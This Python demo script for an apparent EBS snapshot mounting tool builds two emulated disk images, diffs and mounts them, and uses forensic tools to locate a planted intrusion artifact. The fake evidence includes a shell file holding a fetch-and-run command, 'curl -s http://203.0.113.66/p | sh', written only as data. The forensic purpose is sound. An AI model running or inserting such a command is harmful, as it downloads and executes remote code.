#!/usr/bin/env python3
"""A before/after investigation on two snapshots of one volume, and the calls saved by
mounting them together. Needs root (FUSE). Prints what a user would see.

    sudo .venv/bin/python scripts/lineage_demo.py
"""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
from ebsfs.emulator import EmulatorServer, Faults, SnapshotStore  # noqa: E402
from ebsfs.emulator.diskimage import build_disk, demo_files  # noqa: E402

BEFORE, AFTER = "snap-0be1", "snap-0af1"
SIZE = 256 * 1024 * 1024


def run(*command: str) -> str:
    print("$ " + " ".join(command).replace(str(ROOT) + "/", ""))
    out = subprocess.run(command, capture_output=True, text=True, check=True).stdout
    print(out.rstrip())
    return out


def ebsfs(*args: str) -> str:
    return run(sys.executable, "-m", "ebsfs", *args)


def read_all(path: Path) -> str:
    digest = hashlib.sha256()
    with open(path, "rb") as f:
        while chunk := f.read(1 << 20):
            digest.update(chunk)
    return digest.hexdigest()


def gets(server: EmulatorServer) -> int:
    return sum(server.counters.block_gets.values())


def main() -> None:
    os.environ.setdefault("AWS_ACCESS_KEY_ID", "demo")
    os.environ.setdefault("AWS_SECRET_ACCESS_KEY", "demo")
    os.environ.setdefault("AWS_DEFAULT_REGION", "us-east-1")
    before = demo_files(blob_mib=96)
    after = dict(before)
    after["var/log/auth.log"] = before["var/log/auth.log"] + (
        b"Nov 23 03:14:15 web-1 sshd[6666]: Accepted password for root from 203.0.113.66 "
        b"port 31337\n"
    )
    after["tmp/.x/payload.sh"] = b"#!/bin/sh\ncurl -s http://203.0.113.66/p | sh\n"
    with tempfile.TemporaryDirectory() as tmp_name:
        tmp = Path(tmp_name)
        build_disk(tmp / "before.img", SIZE, before)
        build_disk(tmp / "after.img", SIZE, after)
        store = SnapshotStore(Faults(seed=1))
        store.add_image(BEFORE, tmp / "before.img")
        store.add_image(AFTER, tmp / "after.img", parent=BEFORE)
        with EmulatorServer(store) as server:
            url = server.url
            print(f"# {BEFORE} (before) and {AFTER} (after), one volume, served at {url}\n")
            ebsfs("diff", "--endpoint-url", url, BEFORE, AFTER)
            mnt = tmp / "mnt"
            mnt.mkdir()

            print("\n# apart: each snapshot mounted alone, read in full")
            for snap in (BEFORE, AFTER):
                ebsfs("mount", "--endpoint-url", url, snap, str(mnt))
                read_all(mnt / f"{snap}.img")
                ebsfs("umount", str(mnt))
            apart = gets(server)
            print(f"GetSnapshotBlock calls: {apart}")
            server.counters.reset()

            print("\n# together: both in one mount, read one after the other")
            ebsfs("mount", "--endpoint-url", url, BEFORE, AFTER, str(mnt))
            try:
                run("ls", str(mnt))
                for snap in (BEFORE, AFTER):
                    read_all(mnt / f"{snap}.img")
                together = gets(server)
                print(
                    f"GetSnapshotBlock calls: {together} (saved {apart - together} of "
                    f"{apart}; changed blocks: {len(store.changed_indexes(BEFORE, AFTER))})"
                )
                print()
                run("cat", str(mnt / f"{AFTER}.changes"))
                listings = {}
                for snap in (BEFORE, AFTER):
                    listings[snap] = run("fls", "-r", "-p", "-o", "2048", str(mnt / f"{snap}.img"))
                new = sorted(set(listings[AFTER].splitlines()) - set(listings[BEFORE].splitlines()))
                print("\n# entries only in the after snapshot:\n" + "\n".join(new))
                inode = next(x for x in new if x.endswith("payload.sh")).split()[1].rstrip(":")
                run("icat", "-o", "2048", str(mnt / f"{AFTER}.img"), inode)
            finally:
                ebsfs("umount", str(mnt))


if __name__ == "__main__":
    main()
